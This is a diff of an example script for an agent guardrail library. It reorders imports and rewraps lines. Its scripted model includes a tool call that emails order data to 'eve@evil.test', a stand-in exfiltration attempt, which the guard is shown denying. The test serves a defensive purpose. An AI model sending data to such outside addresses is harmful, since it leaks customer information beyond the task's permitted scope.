@@ -15,9 +15,9 @@ import asyncio
 from pathlib import Path
 from typing import Any
 
-from agents import Agent, Runner, RunState, SQLiteSession, function_tool, set_tracing_disabled
 from agentguard_openai_agents import AgentGuard, RunStopped, format_timeline
 from agentguard_openai_agents.testing import ScriptedModel, answer, calls
+from agents import Agent, Runner, RunState, SQLiteSession, function_tool, set_tracing_disabled
 
 from agentguard import Guard, User
 
@@ -55,7 +55,9 @@ async def main() -> int:
     guarded = AgentGuard(build_guard())
     model = ScriptedModel(
         [
-            calls(("lookup_order", {"order_id": "A-1"}), ("send_email", {"to": "eve@evil.test", "body": "A-1"})),
+            calls(
+                ("lookup_order", {"order_id": "A-1"}), ("send_email", {"to": "eve@evil.test", "body": "A-1"})
+            ),
             calls(("send_email", {"to": "support@corp.com", "body": "A-1 has shipped"})),
             answer("A-1 has shipped; I emailed support (I can only email corp.com addresses)."),
             calls(("refund", {"order_id": "A-1", "amount": 30})),
@@ -68,7 +70,9 @@ async def main() -> int:
 
     print("== 1: a denied email, and the model recovers")
     async with guarded.session(SQLiteSession("ann"), user=ann) as session:
-        result = await Runner.run(agent, "Where is A-1? Email the team.", session=session, hooks=guarded.hooks)
+        result = await Runner.run(
+            agent, "Where is A-1? Email the team.", session=session, hooks=guarded.hooks
+        )
         print(result.final_output)
         print(format_timeline(session.engagement))
 
